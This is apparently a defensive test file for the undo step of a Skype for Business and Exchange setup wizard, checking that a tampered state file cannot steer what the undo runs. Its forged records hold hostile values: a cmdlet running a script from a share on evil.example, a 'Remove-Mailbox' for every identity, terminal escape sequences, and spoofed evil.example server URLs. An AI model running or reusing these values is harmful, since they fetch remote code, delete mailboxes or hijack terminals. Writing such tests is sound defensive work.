// What an undo believes of a state file that somebody has rewritten. Whatever stands there, only commands that the wizard would make for
// what it sees now are run, and only on what it may have made.

import { describe, expect, test } from 'vitest';
import { type Command, nameOf } from '../../src/model/command.ts';
import type { Json } from '../../src/model/json.ts';
import { exchangeCmdlet, skypeCmdlet } from '../../src/powershell/reader.ts';
import { skypeId } from '../../src/probes/auth-metadata.ts';
import { rehearsalFolder } from '../wizard/rehearsal.ts';
import { doneFolder, leftAsItIs, meanwhile, setUpIn, stands, takenBack, undo, worldIn } from '../wizard/undoing.ts';
import { forge, forgeChange } from './forged.ts';

/** An undo, with every command that it started and every address that it was to show. */
async function undone(dir: string) {
  const ran: Command[] = [];
  const run = await undo(dir, { onCommand: (command) => ran.push(command) });
  const items = run.asked.flatMap((each) => (each.kind === 'undo' ? each.items : []));
  return { run, items, ran, text: JSON.stringify(ran) };
}

const with_ = (fields: Json, more: { readonly [name: string]: Json }): Json =>
  fields !== null && typeof fields === 'object' && !Array.isArray(fields) ? { ...fields, ...more } : fields;

describe('a change whose record was rewritten', () => {
  test('never runs the commands that the file names', async () => {
    const dir = await doneFolder();
    const evil = skypeCmdlet('\\\\evil.example\\share\\run.ps1');
    forgeChange(dir, 'exchange-partner.create', (change) => ({
      ...change,
      id: 'exchange-partner.mend',
      command: evil,
      undo: { kind: 'run', commands: [evil] },
    }));
    const { run, items, ran } = await undone(dir);
    expect(ran.map(nameOf).filter((each) => each.includes('evil'))).toEqual([]);
    expect(items.find((each) => each.id === 'exchange-partner.mend')?.takeBack).toEqual({
      kind: 'cannot',
      why: 'The file does not say rightly what it changed.',
    });
    expect(run.driven).toMatchObject({ kind: 'finished' });
    expect(worldIn(dir).skype.central.settings.partners).toHaveLength(1);
  });

  test('is taken back by the usual commands, whatever the file says that it ran', async () => {
    const dir = rehearsalFolder();
    const { before } = await setUpIn(dir);
    forge(dir, (records) =>
      records.map((record) =>
        record.type === 'intent'
          ? {
              ...record,
              change: {
                ...record.change,
                command: exchangeCmdlet('Remove-Mailbox', { parameters: { Identity: '*' } }),
                undo: { kind: 'cannot', why: 'x' },
                words: 'x',
                prompts: { everything: 'yes' },
              },
            }
          : record,
      ),
    );
    const { ran } = await undone(dir);
    expect(ran.map(nameOf)).not.toContain('Remove-Mailbox');
    expect(stands(dir)).toEqual(before);
  });

  test('is shown in the words of this version, without anything that a terminal obeys', async () => {
    const dir = await doneFolder();
    const hostile = '\u001B]52;c;ZXZpbA==\u0007\n\u202Eevil';
    forge(dir, (records) =>
      records.map((record) => (record.type === 'intent' ? { ...record, change: { ...record.change, words: hostile } } : record)),
    );
    forgeChange(dir, 'contacts.keep', (change) => ({ ...change, id: `contacts.${hostile}` }));
    const { run, items } = await undone(dir);
    const shown = JSON.stringify([items.map(({ words, id, takeBack }) => [words, id, takeBack]), leftAsItIs(run)]);
    expect(shown).not.toMatch(/\\u001b|\\u0007|\u202E/i);
    expect(items.at(-1)?.takeBack).toEqual({ kind: 'cannot', why: 'This version does not know how.' });
  });
});

describe('an address of the file', () => {
  test.each([
    'https://evil.example/autodiscover/autodiscover.svc',
    'http://evil.example/',
    'https://autodiscover.litwareinc.com@evil.example/',
  ])('that is none of today’s servers is not put back, not even asked: %s', async (was) => {
    const dir = await doneFolder();
    const url = worldIn(dir).skype.central.settings.oauth.autodiscoverUrl;
    forgeChange(dir, 'autodiscover-url.set', (change) => ({ ...change, fields: with_(change.fields, { was }) }));
    const { run, text } = await undone(dir);
    expect(worldIn(dir).skype.central.settings.oauth.autodiscoverUrl).toBe(url);
    expect(text).not.toContain('evil');
    expect(leftAsItIs(run)).toContain('type this yourself: Set-CsOAuthConfiguration');
  });

  test('of Exchange that answers as Autodiscover does is put back', async () => {
    const dir = await doneFolder();
    const was = 'https://mail.litwareinc.com/autodiscover/autodiscover.svc';
    meanwhile(dir, (world) => {
      for (const each of world.exchange.servers) each.internalUri = 'https://mail.litwareinc.com/Autodiscover/Autodiscover.xml';
    });
    forgeChange(dir, 'autodiscover-url.set', (change) => ({ ...change, fields: with_(change.fields, { was }) }));
    await undone(dir);
    expect(worldIn(dir).skype.central.settings.oauth.autodiscoverUrl).toBe(was);
  });

  test('of a metadata document is not put back where it is none of today’s servers', async () => {
    const dir = await doneFolder();
    const [own] = worldIn(dir).exchange.partners;
    forgeChange(dir, 'partner.script', (change) => ({
      ...change,
      id: 'partner.move',
      fields: { application: own?.guid ?? '', url: own?.metadataUrl ?? '', was: 'https://evil.example/metadata/json/1' },
    }));
    const { run, text } = await undone(dir);
    expect(text).not.toContain('evil');
    expect(worldIn(dir).exchange.partners).toMatchObject([{ metadataUrl: own?.metadataUrl }]);
    expect(leftAsItIs(run)).toContain('type this yourself: Set-PartnerApplication');
  });
});

describe('what the wizard never made', () => {
  test.each(['microsoft.exchange', 'Microsoft.Exchange'])('hybrid’s entry stays, however the file calls it: %s', async (identity) => {
    const dir = rehearsalFolder();
    await setUpIn(dir, { faults: ['hybrid-furniture'] });
    forgeChange(dir, 'exchange-partner.create', (change) => ({ ...change, fields: with_(change.fields, { identity }) }));
    const before = worldIn(dir).skype.central.settings.partners;
    expect(before.some((each) => each.identity === 'microsoft.exchange')).toBe(true);
    const { run } = await undone(dir);
    expect(worldIn(dir).skype.central.settings.partners).toEqual(before);
    expect(leftAsItIs(run)).toMatch(/none of the wizard's|is no longer there/);
  });

  test('an entry of another Skype stays, though the file says that the script made it', async () => {
    const dir = await doneFolder();
    const theirs = '11111111-2222-4333-8444-555555555555';
    meanwhile(dir, (world) => {
      const [own] = world.exchange.partners;
      if (own !== undefined)
        world.exchange.partners.push({ ...own, guid: theirs, name: 'Theirs', realm: 'contoso.com', linkedAccount: null });
    });
    forge(dir, (records) => JSON.parse(JSON.stringify(records).replaceAll(worldIn(dir).exchange.partners[0]?.guid ?? '?', theirs)));
    await undone(dir);
    expect(worldIn(dir).exchange.partners.map((each) => each.guid)).toContain(theirs);
  });

  test('a role that is none of the three cannot be named', async () => {
    const dir = await doneFolder();
    forgeChange(dir, 'partner.script', (change) => ({
      ...change,
      id: 'partner.role Organization Management',
      fields: { account: 'LyncEnterprise-ApplicationAccount', applications: [], accounts: [], roles: [] },
    }));
    const { run } = await undone(dir);
    expect(takenBack(run).filter((each) => each.includes('partner.role'))).toEqual([]);
    expect(worldIn(dir).exchange.partners).toMatchObject([{ applicationId: skypeId }]);
  });
});

test('contact lists may move again only on a typed word, beside how many have moved', async () => {
  const dir = await doneFolder();
  const { run } = await undone(dir);
  const plan = run.asked.flatMap((each) => (each.kind === 'confirm' && each.step === 'servers' ? [each.plan] : []))[0];
  expect(plan).toMatchObject({ severity: { kind: 'type' }, warns: [expect.stringMatching(/^0 users have/)] });
});
